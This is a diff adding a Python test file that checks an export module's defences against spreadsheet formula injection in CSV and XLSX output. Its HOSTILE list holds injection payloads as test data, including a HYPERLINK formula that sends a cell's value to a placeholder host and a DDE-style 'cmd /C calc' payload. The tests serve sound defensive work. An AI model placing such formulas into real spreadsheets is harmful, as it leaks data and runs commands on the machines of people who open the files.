@@ -1,0 +1,99 @@
+from __future__ import annotations
+
+import csv
+import datetime
+import io
+from decimal import Decimal
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+from openpyxl import Workbook, load_workbook
+
+from supervisione.lib.exports import (
+    append,
+    csv_bytes,
+    is_formula_like,
+    neutralise,
+    put,
+    restore,
+    workbook_bytes,
+)
+
+HOSTILE = [
+    '=HYPERLINK("http://esempio.invalid/?d="&C2,"Apri")',
+    "@SUM(1+1)",
+    "+1+1",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "\n@SUM(1)",
+    "-2+3+cmd|' /C calc'!A0",
+]
+HARMLESS = ["Rossi", "", "De Santis", "12", "-12,50", "+7", "3.5", "Anna-Maria", "a=b", "mail@example.it"]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_it_puts_a_quote_before_formula_like_text(text: str) -> None:
+    assert is_formula_like(text)
+    assert neutralise(text) == "'" + text
+    assert restore(neutralise(text)) == text
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_it_leaves_other_text_and_plain_numbers_alone(text: str) -> None:
+    assert not is_formula_like(text)
+    assert neutralise(text) == text
+    assert restore(text) == text
+
+
+def test_restore_takes_off_only_the_quote_neutralise_put() -> None:
+    assert restore("'Rossi") == "'Rossi"
+    assert restore("'-12") == "'-12"
+    assert neutralise("'=1") == "''=1"
+    assert restore(neutralise("'=1")) == "'=1"
+
+
+@example("'=1")
+@example("''@x")
+@given(st.text())
+def test_restore_undoes_neutralise_and_neutralised_text_is_never_formula_like(text: str) -> None:
+    assert restore(neutralise(text)) == text
+    assert not is_formula_like(neutralise(text))
+
+
+def test_csv_bytes_neutralises_text_only() -> None:
+    content = csv_bytes([["Nome", "Ore"], ["=1+1", "-2"], [None, Decimal("-1.5")], ["@x", 3]])
+    text = content.decode("utf-8")
+    assert text.startswith("\ufeff")
+    rows = list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))
+    assert rows == [["Nome", "Ore"], ["'=1+1", "-2"], ["", "-1.5"], ["'@x", "3"]]
+
+
+def test_xlsx_cells_keep_text_as_text_and_numbers_as_numbers() -> None:
+    workbook = Workbook()
+    sheet = workbook.active
+    assert sheet is not None
+    append(sheet, ["=1+1", -2, Decimal("-1.5"), datetime.date(2026, 1, 2), "-2+3", "Rossi", None])
+    put(sheet, 2, 1, '=HYPERLINK("http://esempio.invalid","x")')
+    put(sheet, 2, 2, "a\x00b\x07c\td")
+    sheet.cell(row=3, column=1, value="=SUM(A1:A2)")  # written without the helpers: caught on saving
+    read = load_workbook(io.BytesIO(workbook_bytes(workbook)))
+    cells = read.active
+    assert cells is not None
+    assert [(cell.value, cell.data_type, cell.quotePrefix) for cell in cells[1][:6]] == [
+        ("=1+1", "s", True),
+        (-2, "n", False),
+        (-1.5, "n", False),
+        (datetime.datetime(2026, 1, 2), "d", False),  # noqa: DTZ001  (openpyxl reads naive dates)
+        ("-2+3", "s", True),
+        ("Rossi", "s", False),
+    ]
+    assert (cells["A2"].value, cells["A2"].data_type, cells["A2"].quotePrefix) == (
+        '=HYPERLINK("http://esempio.invalid","x")',
+        "s",
+        True,
+    )
+    assert cells["B2"].value == "abc\td"  # characters XML cannot hold are dropped, not an error
+    assert (cells["A3"].value, cells["A3"].data_type) == ("=SUM(A1:A2)", "s")
